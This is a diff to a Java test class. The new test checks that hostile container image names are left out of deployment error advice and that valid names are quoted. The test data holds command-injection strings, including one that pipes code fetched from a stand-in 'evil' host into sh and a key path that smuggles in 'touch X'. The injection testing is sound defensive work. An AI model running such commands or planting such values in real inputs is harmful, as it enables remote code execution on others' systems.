@@ -111,6 +111,24 @@ class HostileScriptTest {
   }
 
   @Test
+  void anImageIsNamedInAnAdviceOnlyIfItIsOne() {
+    for (String image : List.of("x'; curl http://evil/x | sh", "$(curl evil)", "-x", "a b")) {
+      says(
+          HELLO,
+          "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\""
+              + image
+              + "\"}");
+      failure()
+          .remedies()
+          .forEach(remedy -> assertFalse(remedy.toString().contains(image), "" + remedy));
+    }
+    says(
+        HELLO,
+        "{\"event\":\"failed\",\"code\":\"stack.image_missing\",\"message\":\"no\",\"image\":\"torrust/tracker:3.0.0\"}");
+    assertTrue(failure().remedies().toString().contains("'torrust/tracker:3.0.0'"));
+  }
+
+  @Test
   void anUnusualPathOfTheKeyIsQuotedInCommands() {
     bench.keys(folder.resolve("my key; touch X"), folder.resolve("k.pub"));
     DeployError error = failureWith("\"service\":\"tracker\"");
